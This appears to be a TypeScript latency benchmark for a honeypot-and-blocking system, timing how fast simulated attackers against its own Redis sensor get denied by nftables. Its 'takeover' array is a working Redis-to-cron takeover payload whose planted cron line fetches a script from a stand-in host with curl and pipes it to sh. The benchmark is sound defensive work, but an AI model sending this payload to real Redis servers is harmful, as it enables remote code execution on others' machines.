import { execFileSync, spawn } from 'node:child_process';
import { connect } from 'node:net';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { setTimeout as sleep } from 'node:timers/promises';
import { configSchema } from '../src/config.ts';
import { createLog } from '../src/kit/log.ts';
import { uuidv8FromHex } from '../src/kit/uuid.ts';
import type { Decision } from '../src/model/decision.ts';
import { openPipeline } from '../src/pipeline.ts';
import { createStore, openDatabase } from '../src/state/index.ts';
import { type Bench, quantile, sha256 } from './bench.ts';

const attackers = 100;
const backgroundPerSecond = 1_000;
/** A takeover of Redis: what is measured runs from the last byte of its last command. */
const takeover = [
  'CONFIG SET dir /var/spool/cron/\r\n',
  'CONFIG SET dbfilename root\r\n',
  'SET x "\\n*/2 * * * * curl -fsSL http://192.0.2.66/b.sh | sh\\n"\r\n',
];

/** From an attacker's last byte to an element in a kernel set, and to the event on the live stream, under background load. */
export const latency: Bench = {
  name: 'latency',
  summary: 'an attacker’s last byte to a standing element, and to the live stream (needs root)',
  async run({ folder, full, say }) {
    const small = await measure(join(folder, 'a'), 10_000, say);
    const large =
      full || process.env.CALTROP_BENCH_LARGE ? await measure(join(folder, 'b'), 100_000, say) : null;
    return {
      metrics: {
        enforce_p50_ms: small.p50,
        enforce_p99_ms: small.p99,
        enforce_100k_p50_ms: large?.p50 ?? null,
        enforce_100k_p99_ms: large?.p99 ?? null,
        stream_p50_ms: small.streamP50,
        stream_p99_ms: small.streamP99,
      },
      params: {
        attackers,
        background_per_s: backgroundPerSecond,
        standing: large ? [10_000, 100_000] : [10_000],
        missed: small.missed + (large?.missed ?? 0),
      },
      input: null,
    };
  },
};

async function measure(data: string, standing: number, say: (line: string) => void) {
  const namespace = `caltrop-bench-${process.pid}`;
  execFileSync('ip', ['netns', 'add', namespace]);
  try {
    const config = configSchema.parse({
      profile: 'lab',
      sensor: {
        bind: ['127.0.0.1'],
        services: {
          redis: { port: 0 },
          ssh: { enabled: false },
          telnet: { enabled: false },
          http: { enabled: false },
        },
      },
      decision: {
        mode: 'enforce',
        budget: { perMinute: 1_000_000, perAsnMinute: 1_000_000, growth: 1_000, standing: 1_000_000 },
      },
      enforcement: { nftables: { enabled: true, options: { exec: ['ip', 'netns', 'exec', namespace] } } },
      server: { port: 0 },
    });
    say(`${standing} decisions are put in place`);
    await fill(data, standing);
    const pipeline = await openPipeline({
      config,
      data,
      running: true,
      log: createLog('bench', { level: 'error' }),
    });
    const port = pipeline.sensor!.status.services[0]!.port;
    const applied = new Map<string, (at: number) => void>();
    const monitor = spawn('ip', [
      'netns',
      'exec',
      namespace,
      'stdbuf',
      '-oL',
      'nft',
      'monitor',
      'new',
      'elements',
    ]);
    createInterface({ input: monitor.stdout }).on('line', (line) => {
      const now = performance.now();
      for (const [ip] of line.matchAll(/127\.\d+\.\d+\.\d+/g)) applied.get(ip)?.(now);
    });
    const streamed = new Map<string, (at: number) => void>();
    pipeline.live.watch((_, message) => {
      if (
        message.type === 'event' &&
        message.event.kind === 'command' &&
        message.event.input.startsWith('SET')
      ) {
        streamed.get(message.event.src.ip)?.(performance.now());
      }
    });
    await sleep(3_000);
    const background = startBackground(port);
    const enforce: number[] = [];
    const stream: number[] = [];
    let missed = 0;
    for (let i = 0; i < attackers; i++) {
      const ip = `127.9.${i >> 8}.${(i & 255) + 1}`;
      const seen = Promise.race([
        new Promise<number>((resolve) => applied.set(ip, resolve)),
        sleep(2_000, 0),
      ]);
      const shown = Promise.race([
        new Promise<number>((resolve) => streamed.set(ip, resolve)),
        sleep(2_000, 0),
      ]);
      const sent = await attack(ip, port);
      const [at, shownAt] = await Promise.all([seen, shown]);
      if (at) enforce.push(at - sent);
      else missed++;
      if (i % 10 === 0) say(`${i} attackers: ${enforce.length} denied, ${stream.length} shown`);
      if (shownAt) stream.push(shownAt - sent);
      await sleep(20);
    }
    background.stop();
    monitor.kill();
    await pipeline.close();
    const ms = (values: number[], share: number) => Math.round(quantile(values, share) * 10) / 10;
    return {
      p50: ms(enforce, 0.5),
      p99: ms(enforce, 0.99),
      streamP50: ms(stream, 0.5),
      streamP99: ms(stream, 0.99),
      missed,
    };
  } finally {
    execFileSync('ip', ['netns', 'delete', namespace]);
  }
}

/** Stored decisions, as a system has them that has run for a while: its start puts them into the kernel. */
async function fill(data: string, count: number): Promise<void> {
  const db = await openDatabase({ folder: join(data, 'state') });
  const now = Date.now();
  const decisions = Array.from(
    { length: count },
    (_, i): Decision => ({
      id: uuidv8FromHex(now, sha256(String(i)).slice(0, 32)),
      time: now - 3_600_000,
      action: 'deny',
      scope: {
        source: `198.${18 + (i >> 16)}.${(i >> 8) & 255}.${i & 255}`,
        transport: 'tcp',
        ports: [6379],
      },
      until: now + 3_600_000,
      step: 1,
      mode: 'enforce',
      policy: 'abuse',
      actor: 'policy',
      evidence: 'E4',
      because: [],
      reason: 'A decision of the bench.',
    }),
  );
  await createStore(db).write({ decisions });
  await db.destroy();
}

/** Sends the takeover, each command after the answer to the last. Resolves with the time at which its last byte was sent. */
function attack(ip: string, port: number): Promise<number> {
  return new Promise((resolve, reject) => {
    const socket = connect({ host: '127.0.0.1', port, localAddress: ip, noDelay: true });
    let next = 0;
    const say = () => {
      const line = takeover[next++];
      if (line === undefined) return;
      socket.write(line);
      if (next === takeover.length) resolve(performance.now());
    };
    socket.on('connect', say);
    socket.on('data', () => (next < takeover.length ? say() : socket.end()));
    socket.on('error', reject);
  });
}

/** A client that reads and writes its own keys, as an application would: nothing of it may be denied. */
function startBackground(port: number) {
  const sockets = Array.from({ length: 20 }, (_, i) =>
    connect({ host: '127.0.0.1', port, localAddress: `127.8.0.${i + 1}`, noDelay: true }),
  );
  for (const socket of sockets) socket.on('data', () => {}).on('error', () => {});
  let turn = 0;
  const timer = setInterval(() => {
    for (let i = 0; i < backgroundPerSecond / 100; i++)
      sockets[turn++ % sockets.length]!.write(`GET key${turn % 50}\r\n`);
  }, 10);
  return {
    stop(): void {
      clearInterval(timer);
      for (const socket of sockets) socket.destroy();
    },
  };
}
